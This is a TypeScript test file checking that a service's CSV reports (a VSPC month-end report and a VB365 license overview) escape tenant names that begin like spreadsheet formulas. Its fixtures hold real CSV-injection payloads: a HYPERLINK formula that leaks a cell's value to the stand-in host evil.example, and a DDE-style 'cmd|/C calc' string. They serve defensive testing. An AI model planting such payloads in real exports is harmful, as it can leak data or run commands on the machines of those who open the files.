/**
 * CSV injection: a tenant-chosen name that starts like a spreadsheet formula (`=`, `+`, `-`, `@`,
 * tab, CR) is written as text (`"'=…"`) in both CSV reports, the VSPC month-end report and the
 * VB365 license overview; numbers stay numbers.
 *
 * @stores sqlite postgres
 */
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { csvCell, csvRows } from '../../src/services/csv.js';
import { adminPut, startTestApp, type TestApp } from '../support/harness.js';
import { bearer } from './helpers.js';

test('text cells that start like a formula are quoted with a leading apostrophe; others as RFC 4180 says', () => {
  const cases: [string | number | null, string][] = [
    ['=HYPERLINK("http://evil.example","x")', `"'=HYPERLINK(""http://evil.example"",""x"")"`],
    ['+1+2', `"'+1+2"`],
    ['-2+3', `"'-2+3"`],
    ['@SUM(A1)', `"'@SUM(A1)"`],
    ['\t=1', `"'\t=1"`],
    ['\r=1', `"'\r=1"`],
    ['plain', 'plain'],
    ['a=b', 'a=b'],
    ['Alpine, "Dental"', '"Alpine, ""Dental"""'],
    [-1, '-1'],
    [0, '0'],
    [null, ''],
    ['', ''],
  ];
  for (const [value, expected] of cases) assert.equal(csvCell(value), expected, JSON.stringify(value));
  assert.equal(csvRows([['a', 1], ['=b', -2]]), `a,1\r\n"'=b",-2\r\n`);
});

let app: TestApp;
const COMPANY = '0c000000-0000-4000-8000-000000000c51';
const TENANT = '0d000000-0000-4000-8000-000000000c51';
const ORG = '0a000000-0000-4000-8000-000000000c51';
const EVIL_COMPANY = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
const EVIL_ORG = '@SUM(1+1)*cmd|/C calc!A0';

before(async () => {
  app = await startTestApp({ clock: '2026-11-23T12:00:00Z' });
  await adminPut(app, `/tally/v1/companies/${COMPANY}`, { name: EVIL_COMPANY, tenantUid: TENANT });
  await adminPut(app, `/tally/v1/organizations/${ORG}`, { name: EVIL_ORG });
  await adminPut(app, '/tally/v1/licenses/vspc', { type: 'Rental', units: 1000, expirationDate: '2027-01-01T00:00:00Z' });
  await adminPut(app, '/tally/v1/licenses/vb365', { type: 'Rental', totalNumber: 100, expirationDate: '2027-12-31T00:00:00Z' });
  const res = await app.ingest([
    { id: 'c1', type: 'vspc.agentActivated', at: '2026-09-10T00:00:00Z', companyUid: COMPANY, agent: { uid: '0e000000-0000-4000-8000-000000000c51', name: 'srv', mode: 'server' } },
    { id: 'c2', type: 'vb365.backup', at: '2026-10-05T00:00:00Z', organizationId: ORG, user: { id: 'u1', name: 'u1@evil.example' } },
  ]);
  assert.equal(res.status, 200, JSON.stringify(res.body));
});
after(() => app.close());

test('the VSPC month-end report CSV writes a formula-like company name as text', async () => {
  const res = await app.vspc.inject({ url: '/tally/v1/reports/vspc/2026-10?format=csv', headers: bearer(app.adminToken) });
  assert.equal(res.statusCode, 200, res.body);
  const line = res.body.split('\r\n')[1]!;
  assert.ok(line.includes(`,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")",`), line);
  assert.doesNotMatch(res.body, /,=HYPERLINK/);
});

test('the VB365 license overview CSV writes a formula-like organization name as text', async () => {
  const res = await app.vb365.inject({
    method: 'POST', url: '/v6/Reports/GenerateLicenseOverview', headers: bearer(app.adminToken),
    payload: { startTime: '2026-10-01T00:00:00Z', endTime: '2026-11-01T00:00:00Z', format: 'CSV' },
  });
  assert.equal(res.statusCode, 200, res.body);
  assert.ok(res.body.includes(`,"'@SUM(1+1)*cmd|/C calc!A0",1,1\r\n`), res.body);
});
